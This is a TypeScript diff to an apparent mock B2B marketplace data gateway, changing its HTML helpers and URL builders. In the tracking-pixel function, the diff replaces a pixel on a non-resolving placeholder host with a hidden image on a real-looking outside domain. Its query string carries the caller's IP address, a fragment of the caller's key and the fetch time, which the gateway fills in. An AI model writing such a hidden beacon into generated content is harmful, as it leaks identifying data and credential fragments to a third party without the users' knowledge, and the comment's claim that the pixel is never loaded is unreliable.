@@ -39,15 +39,27 @@ export function html(s: string): string {
   return s.replace(/[&<>"]/g, (ch) => (ch === '&' ? '&amp;' : ch === '<' ? '&lt;' : ch === '>' ? '&gt;' : '&quot;'));
 }
 
-/** The spec's "embedded hidden image tag": a tracking pixel on a host that can never resolve. */
+/** Stand-ins the gateway fills at fetch time (see gateway/stamp.ts): the caller's IPv4 as a uint32, a fragment of its key, the time. */
+export const TRACKER_SLOTS = { ip: '{client_ip_uint32}', key: '{key_fragment}', time: '{fetch_unix_time}' } as const;
+
+/**
+ * The spec's "embedded hidden image tag", in the form every real description carries since 2022 (DESIGN D13):
+ * a hidden image on the vendor's tracking host whose query names the caller. Never loaded by the explorer.
+ */
 export function trackingPixel(id: string): string {
-  return `<img src="https://img.example.invalid/track/${encodeURIComponent(id)}.gif" style="display:none" width="1" height="1">`;
+  let rid = 0;
+  for (const ch of id) rid = (Math.imul(rid, 31) + ch.charCodeAt(0)) >>> 0;
+  return `<img src="https://www.o0b.cn/i.php?t.png&rid=${rid.toString(16)}&p=${TRACKER_SLOTS.ip}&k=${TRACKER_SLOTS.key}&t=${TRACKER_SLOTS.time}" style="display:none">`;
 }
+
+/** The origin of the data set's own pictures; the gateway rewrites it to itself (`{gateway}/_img/...`) when it answers. */
+export const PICTURE_ORIGIN = 'https://img.example.com/';
 
 export const URLS = {
   companyDetail: (id: string): string => `https://detail.b2b.example.com/company/${encodeURIComponent(id)}.html`,
   companyPage: (companyId: string): string => `https://shop.b2b.example.com/company/${companyId}/`,
   offerDetail: (id: string): string => `https://detail.b2b.example.com/offer/${encodeURIComponent(id)}.html`,
-  offerImage: (id: string, name: string): string => `https://img.example.com/offer/${encodeURIComponent(id)}/${name}.jpg`,
+  /** A picture of one product word of an industry, drawn by the gateway (gateway/pictures.ts). */
+  picture: (industrySlug: string, productIndex: number, name: string): string => `${PICTURE_ORIGIN}_img/${industrySlug}/${productIndex}/${name}.svg`,
   sellerPage: (userNumId: string): string => `https://shop.b2b.example.com/seller/${userNumId}/`,
 };
